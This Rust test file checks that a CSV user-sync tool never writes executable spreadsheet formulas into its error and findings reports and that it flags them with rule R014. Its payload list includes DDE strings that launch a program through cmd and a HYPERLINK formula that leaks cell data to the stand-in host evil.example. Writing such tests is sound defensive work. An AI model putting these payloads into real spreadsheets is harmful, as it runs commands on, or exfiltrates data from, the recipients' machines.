//! Formula injection (CSV injection): the error report and the findings CSV never hold a cell a
//! spreadsheet would run as a formula; the corrected CSV keeps the data as the admin wrote it,
//! and R014 tells them.

use orgsync_core::{Code, FixOptions, Options};
use orgsync_tests::run;

/// OWASP's payloads and their variants: each sign, DDE, a hyperlink, a leading tab, CR or LF,
/// a leading space, a full-width sign.
const PAYLOADS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{FF1D}1+1",
];

/// Payloads R014 reports as they are: the first six (the others start with a blank, which R012
/// reports).
const FORMULAS: &[&str] = PAYLOADS.split_at(6).0;

fn quote(cell: &str) -> String {
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_string()
    }
}

/// A users file with each payload in a name, a title and a custom attribute, and one in the
/// header.
fn file() -> Vec<u8> {
    let mut text = String::from(
        "primary_email_address,preferred_first_name,work_title,attribute_note,=1+1\r\n",
    );
    for (i, p) in PAYLOADS.iter().enumerate() {
        let p = quote(p);
        text.push_str(&format!("user{i}@example.com,{p},{p},{p},x\r\n"));
    }
    // And in the email column.
    text.push_str(&format!("{},Ann,Analyst,,x\r\n", quote(PAYLOADS[0])));
    text.into_bytes()
}

fn cells(csv: &[u8]) -> Vec<String> {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv);
    rdr.records()
        .map(|r| r.expect("the outputs are valid CSV"))
        .flat_map(|r| r.iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// Whether a spreadsheet could run the cell as a formula.
fn executable(cell: &str) -> bool {
    let rest = cell.trim_start();
    cell.starts_with(['\t', '\r', '\n'])
        || rest.starts_with([
            '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
        ])
}

#[test]
fn reports_never_hold_an_executable_cell() {
    let bytes = file();
    for fix in [
        FixOptions::default(),
        FixOptions {
            suggested: orgsync_core::Suggested::All,
            ..FixOptions::default()
        },
    ] {
        let (_, out) = run::check_and_fix(&bytes, &Options::default(), &fix);
        for (name, csv) in [
            ("error report", &out.error_report),
            ("findings", &out.findings),
        ] {
            let all = cells(csv);
            let bad: Vec<&String> = all.iter().filter(|c| executable(c)).collect();
            assert!(bad.is_empty(), "{name} holds executable cells: {bad:?}");
            // The payloads are there, shown as text behind an apostrophe: the error report
            // repeats each row's cells; the findings CSV holds fixes' before and after (R012
            // trims `" =1+1"` to `=1+1`).
            let shown: &[&str] = if name == "findings" {
                &[" =1+1", "=1+1"]
            } else {
                FORMULAS
            };
            for p in shown {
                assert!(
                    all.iter().any(|c| c == &format!("'{p}")),
                    "{name} lacks '{p}"
                );
            }
        }
    }
}

#[test]
fn corrected_file_keeps_the_data_and_r014_reports_it() {
    let bytes = file();
    let (report, out) = run::check_and_fix(&bytes, &Options::default(), &FixOptions::default());
    let corrected = cells(&out.corrected);
    for p in FORMULAS {
        assert!(
            corrected.iter().any(|c| c == p),
            "the corrected file changed {p:?}"
        );
        // Reported in each column it is in (name, title, attribute).
        let n = report
            .findings
            .iter()
            .filter(|f| {
                f.code == Code::R014 && f.message.contains(&p.chars().take(8).collect::<String>())
            })
            .count();
        assert!(n >= 3, "R014 reported {p:?} {n} times");
    }
    assert!(
        corrected.iter().any(|c| c == "=1+1"),
        "the header is kept too"
    );
}
